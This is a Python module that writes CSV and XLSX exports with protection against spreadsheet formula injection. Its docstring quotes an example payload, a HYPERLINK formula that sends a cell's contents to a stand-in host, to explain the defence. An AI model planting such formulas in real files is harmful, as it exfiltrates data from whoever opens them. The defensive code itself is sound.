"""Every CSV and XLSX file the application writes, with text a spreadsheet would run kept inert.

A cell whose text starts with = + - @, a tab or a carriage return is a formula to Excel and
LibreOffice (OWASP, "CSV Injection"): a product or project name typed as
`=HYPERLINK("http://x?d="&A1,"…")` would run on the officer's machine when the file is opened.
Such text is written as text: in CSV with a leading apostrophe, in XLSX as a text cell marked
with Excel's own quote prefix (what Excel stores when a person types '=…). Numbers stay
numbers, and so does text that is only a number ("-3.5", "1,200.5", "-1.2e+03"): no
spreadsheet reads that as a formula, and the dashboard writes its figures as such text.
"""

import codecs
import csv
import io
import itertools
import re
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass
from decimal import Decimal
from typing import Any

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d[\d,]*(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
_SHEET_TITLE_MAX = 31  # Excel refuses longer sheet names


def is_formula_text(value: object) -> bool:
    """Return whether a spreadsheet would read the value as a formula if written as it is."""
    return (
        isinstance(value, str)
        and value.startswith(FORMULA_START)
        and _NUMBER.fullmatch(value) is None
    )


def csv_cell(value: Any) -> Any:
    """Return the value as a CSV cell: formula text behind an apostrophe, decimals in full."""
    if is_formula_text(value):
        return "'" + value
    if isinstance(value, Decimal):
        return format(value, "f")  # never "1E+3"
    return value


def csv_bytes(header: Sequence[Any], rows: Iterable[Sequence[Any]]) -> bytes:
    """Return the rows as CSV in UTF-8 with a BOM, so that Excel opens the Chinese correctly."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([csv_cell(value) for value in header])
    writer.writerows([csv_cell(value) for value in row] for row in rows)
    return codecs.BOM_UTF8 + buffer.getvalue().encode("utf-8")


def csv_stream(header: Sequence[Any], rows: Iterable[Sequence[Any]]) -> Iterator[bytes]:
    """Yield the rows as CSV in UTF-8 (BOM first), a line at a time, for a streamed download."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    yield codecs.BOM_UTF8
    for row in itertools.chain([header], rows):
        writer.writerow([csv_cell(value) for value in row])
        yield buffer.getvalue().encode("utf-8")
        buffer.seek(0)
        buffer.truncate()


@dataclass(frozen=True)
class Sheet:
    """One worksheet: its rows, an optional bold and frozen header row, column widths."""

    title: str
    rows: Iterable[Sequence[Any]]
    header: Sequence[str] = ()
    widths: Sequence[float] = ()


def xlsx_bytes(*sheets: Sheet) -> bytes:
    """Return the sheets as an XLSX workbook in which every text cell is text, never a formula."""
    workbook = Workbook(write_only=True)
    for sheet in sheets:
        worksheet = workbook.create_sheet(sheet.title[:_SHEET_TITLE_MAX])
        for column, width in enumerate(sheet.widths, start=1):
            worksheet.column_dimensions[get_column_letter(column)].width = width
        if sheet.header:
            worksheet.freeze_panes = "A2"
            bold = Font(bold=True)
            worksheet.append([_xlsx_cell(worksheet, name, font=bold) for name in sheet.header])
        for row in sheet.rows:
            worksheet.append([_xlsx_cell(worksheet, value) for value in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _xlsx_cell(worksheet, value: Any, font: Font | None = None) -> WriteOnlyCell:
    cell = WriteOnlyCell(worksheet, value=value)
    if isinstance(value, str):
        # openpyxl makes any text starting with "=" a formula; this keeps it text.
        cell.data_type = "s"
        if is_formula_text(value):
            # Excel's mark for text typed after an apostrophe: it stays text when edited.
            cell.quotePrefix = True
    if font is not None:
        cell.font = font
    return cell
